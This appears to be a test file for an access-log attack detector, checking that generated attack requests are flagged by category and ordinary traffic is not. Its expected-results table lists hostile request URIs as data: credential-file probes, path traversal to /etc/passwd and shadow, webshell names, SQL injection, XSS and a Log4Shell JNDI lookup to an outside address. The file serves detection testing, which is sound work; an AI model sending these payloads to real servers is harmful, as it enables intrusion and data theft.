import { readdirSync } from 'node:fs'
import type { LogLine } from '@gatehouse/core/access-log/log-line.ts'
import { detectors } from '@gatehouse/core/findings/detectors/index.ts'
import { Marks } from '@gatehouse/core/findings/marks.ts'
import { expect, it } from 'vitest'
import { drawAttack } from '../access-log/generator/attacks.ts'
import { generate } from '../access-log/generator/generate.ts'
import { seeded } from '../access-log/sketch/numbers.ts'
import { readLine } from '../harness/read-line.ts'
import { amount } from '../harness/soak.ts'
import { usualLine } from './usual-line.ts'

const files = readdirSync('test/findings/corpus')
const signatures = detectors
  .filter(detector => detector.kind === 'line')
  .filter(({ name }) => files.includes(`${name}.txt`))
const marks = new Marks(signatures)
const untilMs = Date.UTC(2026, 10, 23, 14, 20, 41)

function foundIn(line: LogLine): string[] {
  const bits = marks.of(line)
  return signatures
    .filter((one, bit) => bits & (1 << bit) && (one.see(line)?.weight ?? 0) > 0)
    .map(({ name }) => name)
}

function attackLine(uri: string, method: string, agent: string): LogLine {
  const mark = uri.indexOf('?')
  const [path, query] = mark < 0 ? [uri, ''] : [uri.slice(0, mark), uri.slice(mark + 1)]
  return usualLine({ path, query, method, agent, status: 404 })
}

/** What the generator's attackers ask for, and who must say so. */
const expected: Record<string, string> = {
  '/.env': 'sensitive-files',
  '/.git/config': 'sensitive-files',
  '/.aws/credentials': 'sensitive-files',
  '/id_rsa': 'sensitive-files',
  '/wp-config.php.bak': 'sensitive-files',
  '/server-status': 'sensitive-files',
  '/.DS_Store': 'sensitive-files',
  '/../../etc/passwd': 'traversal',
  '/static/..%2f..%2fetc%2fshadow': 'traversal',
  '/%2e%2e/%2e%2e/boot.ini': 'traversal',
  '/a/..;/manager/html': 'traversal',
  '/shell.php': 'backdoor-names',
  '/c99.php': 'backdoor-names',
  '/wp-login.php': 'admin-interfaces',
  '/xmlrpc.php': 'admin-interfaces',
  '/phpmyadmin/': 'admin-interfaces',
  '/cgi-bin/luci': 'admin-interfaces',
  '/actuator/env': 'admin-interfaces',
  "/item?id=1'%20OR%20'1'='1": 'sql-injection',
  '/list?q=1%20UNION%20SELECT%20password%20FROM%20users--': 'sql-injection',
  '/cart?id=1;sleep(5)--': 'sql-injection',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E': 'xss',
  '/search?q="><img src=x onerror=alert(1)>': 'xss',
  '/?x=${jndi:ldap://203.0.113.9/a}': 'known-exploits',
}

it('finds every attack of the generator by its name', () => {
  const random = seeded(8)
  const drawn = Array.from({ length: 5000 }, () => drawAttack(random))
  const uris = new Set(drawn.map(({ uri }) => uri).filter(uri => !uri.startsWith('/probe-')))
  expect([...uris].sort()).toEqual(Object.keys(expected).sort())
  for (const uri of uris) expect(foundIn(attackLine(uri, 'GET', '')), uri).toContain(expected[uri])
  for (const agent of new Set(drawn.map(one => one.agent)))
    expect(foundIn(attackLine('/', 'GET', agent)), agent).toEqual(agent === '' ? [] : ['scanner-agents'])
  for (const method of new Set(drawn.map(one => one.method)))
    expect(foundIn(attackLine('/', method, '')).includes('odd-methods'), method).toBe(
      !['GET', 'CONNECT'].includes(method),
    )
})

it('finds nothing in its ordinary traffic', () => {
  const attacks = new Set(Object.keys(expected))
  const odd = /[^\x20-\x7e]|<script>|@everyone|&amp;/
  let ordinary = 0
  for (const text of generate({ lines: amount(30_000, 1_000_000), seed: 3, untilMs, forMs: 3_600_000 })) {
    const bytes = Buffer.from(text)
    const line = readLine(bytes, 0, bytes.length)
    if (line === null) continue
    const uri = line.query === '' ? line.path : `${line.path}?${line.query}`
    const isAttack =
      attacks.has(uri) || uri.startsWith('/probe-') || foundIn(usualLine({ agent: line.agent })).length > 0
    if (isAttack || odd.test(uri) || odd.test(line.agent)) continue
    ordinary += 1
    expect(foundIn({ ...line, host: 'shop.example.com' }), text).toEqual([])
  }
  expect(ordinary).toBeGreaterThan(amount(25_000, 900_000))
})
